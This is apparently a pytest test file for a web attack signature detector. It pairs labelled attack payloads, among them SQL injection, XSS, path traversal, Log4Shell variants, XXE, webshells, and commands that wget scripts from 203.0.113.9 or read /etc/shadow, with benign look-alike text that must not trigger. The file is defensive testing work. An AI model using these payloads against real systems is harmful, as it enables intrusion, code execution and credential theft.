"""Signatures of web attacks: each class is told, and ordinary text of the same words is not."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote, quote_plus

import pytest

from tocsin.detect.web.signatures import web_attacks_in

FORM = (("content-type", "application/x-www-form-urlencoded"),)
JSON = (("content-type", "application/json"),)

ATTACKS = [
    ("sql_injection", "1' OR '1'='1"),
    ("sql_injection", "admin'--"),
    ("sql_injection", "1 UNION SELECT NULL,NULL,NULL--"),
    ("sql_injection", "1'/**/UNION/**/SELECT/**/user,pass/**/FROM/**/users#"),
    ("sql_injection", "1 AND SLEEP(5)"),
    ("sql_injection", "1; DROP TABLE users--"),
    ("sql_injection", "1'; WAITFOR DELAY '0:0:5'--"),
    ("sql_injection", "1 AND extractvalue(1,concat(0x7e,version()))"),
    ("sql_injection", "1) ORDER BY 10--"),
    ("sql_injection", "x' AND substring(password,1,1)='a"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", '"><svg/onload=alert(document.domain)>'),
    ("xss", "javascript:alert(document.cookie)"),
    ("xss", "<iframe src=javascript:alert(1)>"),
    ("path_traversal", "../../../../etc/passwd"),
    ("path_traversal", "..\\..\\..\\windows\\win.ini"),
    ("path_traversal", "....//....//....//etc/hosts"),
    ("path_traversal", "/etc/shadow"),
    ("path_traversal", "/proc/self/environ"),
    ("command_injection", "127.0.0.1; cat /etc/passwd"),
    ("command_injection", "127.0.0.1 | whoami"),
    ("command_injection", "$(id)"),
    ("command_injection", "`uname -a`"),
    ("command_injection", "x && wget http://203.0.113.9/a.sh"),
    ("command_injection", "a;cd /tmp;busybox wget 203.0.113.9/x"),
    ("file_inclusion", "php://filter/convert.base64-encode/resource=index.php"),
    ("file_inclusion", "http://203.0.113.9/shell.txt?"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"),
    ("template_injection", "{{7*7}}"),
    ("template_injection", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("log4shell", "${jndi:ldap://203.0.113.9/a}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}"),
    ("log4shell", "${j${env:X:-n}di:dns://203.0.113.9/a}"),
    ("xxe", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ("java_injection", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("spring4shell", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    ("deserialisation", base64.b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util").decode()),
    ("deserialisation", 'O:8:"Database":1:{s:3:"cmd";s:2:"id";}'),
    ("code_injection", "<?php phpinfo(); ?>"),
    ("webshell", "@eval($_POST['x']);"),
]
CALM = """union select committee meeting
select the best from the list where applicable
please select (one)
Tom & Jerry; cats | dogs
bed & bath; cat
O'Brien and D'Angelo
it's 5 o'clock and 3 = three
a < b > c
how to use sleep(5) in java
what is alert() in javascript
javascript:void(0)
C:\\Users\\bob\\Documents\\report.docx
https://example.org/path?a=1&b=2
5' 10" or 6'
'quoted' and "double"
John's #1 fan
{"query":"{ user(id: 1) { name } }"}
Hello {{ user.first_name }}, your order #{{ order.id }}
name|id|email
what is /etc/passwd used for in linux systems
../images/logo.png
Wait... what?
like 'new' or like "old"
time and date; host and guest
data:image/png;base64,iVBORw0KGgo=
size='L' and color='red'
created_at > '2024-01-01' and id in (1,2)
(cpu > 80) || (mem > 90)
sum(rate(http_requests_total{job="api"}[5m])) by (code)
<p>Hello <b>world</b></p>
curl vs wget
order by 5 pm
drop table reservations for 5
-- Regards, Bob --
AT&T | Verizon
<user@example.org>
a'b""".splitlines()


def classes(target: str, **parts: object) -> set[str]:
    return {one.attack for one in web_attacks_in(target, **parts)}  # type: ignore[arg-type]


@pytest.mark.parametrize(("attack", "text"), ATTACKS)
def test_an_attack_is_told_in_query_form_and_json(attack: str, text: str) -> None:
    form, body = quote_plus(text).encode(), json.dumps({"a": text}).encode()

    assert attack in classes("/x.php?a=" + quote_plus(text))
    if attack not in {"file_inclusion", "xxe"}:
        assert attack in classes("/x", method="POST", headers=FORM, body=b"q=1&url=" + form)
        assert attack in classes("/x", method="POST", headers=JSON, body=body) or attack == "ssrf"


@pytest.mark.parametrize("text", CALM)
def test_ordinary_text_of_the_same_words_is_calm(text: str) -> None:
    agent = (("user-agent", text), ("cookie", f"a=b; last={text}"))
    body = json.dumps({"title": "x", "text": text}).encode()

    assert classes("/search?q=" + quote_plus(text)) == set()
    assert classes("/wiki/" + quote(text, safe="")) == set()
    assert classes("/x", headers=agent) == set()
    assert classes("/x", headers=FORM, body=b"text=" + quote_plus(text).encode()) == set()
    assert classes("/x", headers=JSON, body=body) == set()


@pytest.mark.parametrize(
    "target",
    [
        "/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
        "/static/..%c0%af..%c0%af..%c0%afetc/passwd",
        "/app/..;/..;/manager/html",
        "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/x?f=..%255c..%255cboot.ini",
        "/../../../../etc/shadow",
    ],
)
def test_a_path_that_climbs_is_told_however_it_is_escaped(target: str) -> None:
    assert classes(target) == {"path_traversal"}


@pytest.mark.parametrize(
    "target", ["/a/../b/index.html", "/a/./b", "/docs/etc/passwd-howto.html", "/file..name", "/a.."]
)
def test_a_path_that_stays_inside_is_calm(target: str) -> None:
    assert classes(target) == set()


@pytest.mark.parametrize(
    ("attack", "name", "text"),
    [
        ("log4shell", "x-api-version", "${jndi:ldap://203.0.113.9/a}"),
        ("log4shell", "authorization", "Bearer ${jndi:ldap://203.0.113.9/a}"),
        ("shellshock", "user-agent", "() { :; }; /bin/bash -c 'id'"),
        ("sql_injection", "cookie", "id=1' OR '1'='1"),
        ("java_injection", "content-type", "%{(#_='multipart/form-data').(#cmd='id')}"),
    ],
)
def test_attacks_in_headers_are_told(attack: str, name: str, text: str) -> None:
    assert attack in classes("/", headers=((name, text),))


def test_devices_are_attacked_by_known_shapes() -> None:
    gpon = b"XWebPageName=diag&dest_host=`busybox+wget+http://203.0.113.9/a`"

    assert classes("/GponForm/diag_Form?images/", method="POST", body=gpon) & {"command_injection"}
    assert classes("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*")
    assert classes("/shell?cd+/tmp;wget+http://203.0.113.9/jaws;sh+jaws") & {"command_injection"}
    assert classes(
        "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array"
    )


def test_an_uploaded_script_is_a_webshell() -> None:
    body = (
        b'--x\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n'
        b"<?php system($_GET['c']); ?>\r\n--x--\r\n"
    )
    headers = (("content-type", "multipart/form-data; boundary=x"),)

    assert classes("/upload", method="POST", headers=headers, body=body) == {"webshell"}
    assert classes("/a.jsp", method="PUT", body=b"<% Runtime.getRuntime() %>") >= {"webshell"}


def test_a_whole_statement_in_a_field_for_statements_is_a_database_interface() -> None:
    assert (
        classes("/query?q=" + quote_plus("SELECT mean(v) FROM cpu WHERE host='a' and x=1")) == set()
    )
